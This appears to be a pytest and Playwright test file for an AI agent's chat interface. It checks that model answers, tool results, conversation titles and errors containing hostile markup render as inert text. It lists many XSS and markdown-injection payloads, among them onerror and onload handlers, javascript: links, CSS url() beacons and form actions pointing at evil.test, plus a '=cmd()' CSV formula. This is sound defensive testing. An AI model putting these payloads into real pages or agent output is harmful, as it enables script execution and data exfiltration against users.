"""What models, tools and people write is text: it runs nothing, loads nothing, leads nowhere by itself."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import expect

from actloop import tool
from actloop.tools import Artifact, ToolResult
from tests.support.browsing import Desk, Tab
from tests.support.directed_llm import DirectedLLM, calls
from tests.support.hostile_answer import HOSTILE_ANSWER, HOSTILE_OBSERVATION

pytestmark = pytest.mark.asyncio(loop_scope="session")

ATTACK = (
    "<img src=x onerror=\"window.hacked='here'\"><script>window.hacked='script'</script>![x](https://evil.test/b.png)"
)

MORE = [
    '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=1"></style></mglyph></table></mtext></math>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=hacked=1>"></use><a xlink:href="javascript:0">x</a></svg>',
    "<details open ontoggle=window.hacked=1>a</details> <video><source onerror=window.hacked=1></video>",
    "<style>input[value^=a]{background:url(//evil.test/a)} @font-face{font-family:x;src:url(//evil.test/f)}</style>",
    '<link rel=stylesheet href="//evil.test/a.css"><link rel=preload as=image href=//evil.test/p.png>',
    '<template><script>window.hacked=1</script></template><noscript><p title="</noscript><img src=x onerror=x=1>">',
    '<input autofocus onfocus="window.hacked=1"> <button formaction="//evil.test" form=f>x</button><form id=f></form>',
    "[a](&#106;avascript:window.hacked=1) [b](java\tscript:window.hacked=1) [c](vbscript:x) [d](//evil.test/d)",
    "[e]: https://evil.test/reference.png\n![e]\n\n![f](data:image/svg+xml;base64,PHN2Zy8+) ![g](\\\\evil.test\\g.png)",
    "![h](http:/\\evil.test/h.png) ![i](https:evil.test/i.png) ![j](/\\evil.test/j.png) ![k](blob:https://evil.test/k)",
    "$\\href{javascript:window.hacked=1}{x}$ $\\url{https://evil.test}$ $\\includegraphics{https://evil.test/m.png}$",
    "$$\\htmlData{x=y}{z} \\htmlClass{a}{b} \\def\\a{\\a\\a}\\a$$",
    '```html\n<script>window.hacked=1</script>\n```\n```x"onload=hacked=1\ncode\n```',
    "W" * 20_000,
    "\u202egnp.live\u202c \u2066abc\u2069 \u0000 \ufeff \U000e0041",
    "a\u0301" + "\u0301" * 500,
    "> " * 500 + "deep",
    "- " * 300 + "deep",
    "[^1]\n\n[^1]: ![x](https://evil.test/footnote.png)",
    "<https://evil.test/auto> <a@evil.test> www.evil.test",
    "| a |\n|---|\n| <img src=//evil.test/t.png> ![x](//evil.test/t2.png) |",
]


async def assert_untouched(tab: Tab, address: str) -> None:
    """Nothing ran, the page is where it was, and only what was asked for is in it."""
    page = tab.page
    assert await page.evaluate("window.hacked") is None
    assert page.url == address
    assert len(page.frames) == 1
    assert len(page.context.pages) == 1
    dangerous = "script:not([src^='/assets/']), iframe, object, embed, form, base, meta[http-equiv], style, svg script"
    await expect(page.get_by_role("main").locator(dangerous)).to_have_count(0)
    handlers = "all => all.flatMap(each => each.getAttributeNames()).filter(name => name.startsWith('on'))"
    assert await page.locator("body *").evaluate_all(handlers) == []
    links = "all => all.map(each => [new URL(each.href).protocol, each.target, each.rel])"
    for protocol, target, rel in await page.get_by_role("main").locator("a[href]").evaluate_all(links):
        assert protocol in {"http:", "https:", "mailto:"}
        assert (target, rel) == ("_blank", "noopener noreferrer nofollow") or protocol == "http:"
    images = "all => all.map(image => [image.getAttribute('src'), new URL(image.src).origin === location.origin])"
    found = await page.get_by_role("main").locator("img").evaluate_all(images)
    assert all(own for _, own in found), found


async def test_an_answer_full_of_attacks_does_nothing(desk: Desk) -> None:
    async with desk.played("hostile") as tab:
        await expect(tab.answers.get_by_role("heading", name="Harmless")).to_be_visible()
        await expect(tab.answers.get_by_text("a bold word & x<y")).to_be_visible()
        await expect(tab.answers.get_by_role("link", name="Image at evil.test, not loaded")).to_have_count(3)
        await expect(tab.answers.get_by_role("link", name="a real link")).to_be_visible()
        for name in ("a script", "data", "a file", "mixed case"):
            await expect(tab.answers.get_by_role("link", name=name, exact=True)).to_have_count(0)
        await tab.page.get_by_role("group", name="What the agent did").get_by_role("button").first.click()
        await tab.call("fetch").get_by_role("button", expanded=False).click()
        await expect(tab.call("fetch")).to_contain_text('<script>window.hacked = "observation"</script>')
        await assert_untouched(tab, tab.page.url)


async def test_tricks_of_every_kind_do_nothing(desk: Desk) -> None:
    whole = "\n\n".join(f"{text}\n\nafter {number}" for number, text in enumerate(MORE))
    async with desk.open(DirectedLLM("brief", whole)) as tab:
        await tab.ask("Try all of it.")
        await tab.answered(f"after {len(MORE) - 1}")
        await assert_untouched(tab, tab.page.url)
        width = "document.documentElement.scrollWidth - innerWidth"
        assert await tab.page.evaluate(width) <= 0
        # What looks like a foreign address and is one of ours, where nothing is; asked for when it comes into sight.
        tab.forgive("404", at_least=0)


@pytest.mark.parametrize("text", [HOSTILE_ANSWER, HOSTILE_OBSERVATION], ids=["answer", "observation"])
async def test_a_half_of_it_does_nothing_either(desk: Desk, text: str) -> None:
    """While it is streamed the text ends anywhere, and what closes a tag or a fence has not come."""
    cuts = range(20, len(text), len(text) // 8)
    replies = [said for cut in cuts for said in ("brief", f"{text[:cut]}")]
    async with desk.open(DirectedLLM(*replies)) as tab:
        for number, _ in enumerate(cuts):
            await tab.ask(f"Part {number}?")
            await expect(tab.page.get_by_role("article", name=f"Part {number}?")).to_be_visible()
            await expect(tab.turns.last.get_by_role("group", name="About this answer")).to_be_visible()
            await assert_untouched(tab, tab.page.url)


async def test_names_titles_errors_and_reasons_are_plain_text(desk: Desk) -> None:
    @tool
    def fetch(address: str) -> ToolResult:
        """Fetch something."""
        if address == "bad":
            raise ValueError(ATTACK)
        return ToolResult(ATTACK, (Artifact(f"{ATTACK}.csv", "text/csv", f"{ATTACK},=cmd()\n1,2\n"),))

    turn = calls(("fetch", {"address": ATTACK}), ("fetch", {"address": "bad"}), reasoning=ATTACK)
    model = DirectedLLM(turn, "brief", f"Seen. {ATTACK}")
    async with desk.open(model, fetch) as tab:
        await tab.ask(ATTACK)
        await tab.answered("Seen.")
        conversation = tab.page.url.rsplit("/", 1)[1]
        renamed = await tab.service.ask("PATCH", f"/api/conversations/{conversation}", {"title": ATTACK[:190]})
        assert renamed.status == 200
        await tab.page.reload()
        await tab.answered("Seen.")
        await expect(tab.page.get_by_role("group", name="You asked")).to_have_text(ATTACK)
        await expect(tab.side.get_by_role("navigation").get_by_role("link")).to_contain_text("<img src=x")
        await tab.page.get_by_role("group", name="What the agent did").get_by_role("button").first.click()
        for card in await tab.call("fetch").all():
            await card.get_by_role("button", expanded=False).first.click()
            await expect(card).to_contain_text("<script>")
        await tab.page.get_by_role("button", name=re.compile("^Open <img")).first.click()
        await expect(tab.page.get_by_role("dialog").get_by_role("table")).to_contain_text("=cmd()")
        await assert_untouched(tab, tab.page.url)


async def test_a_failure_of_the_model_is_told_as_text(desk: Desk) -> None:
    async with desk.serve(DirectedLLM()) as service, desk.visit(service) as tab:
        await tab.ask("Anybody there?")
        await expect(tab.page.get_by_text("The run could not be finished")).to_be_visible()
        await assert_untouched(tab, tab.page.url)
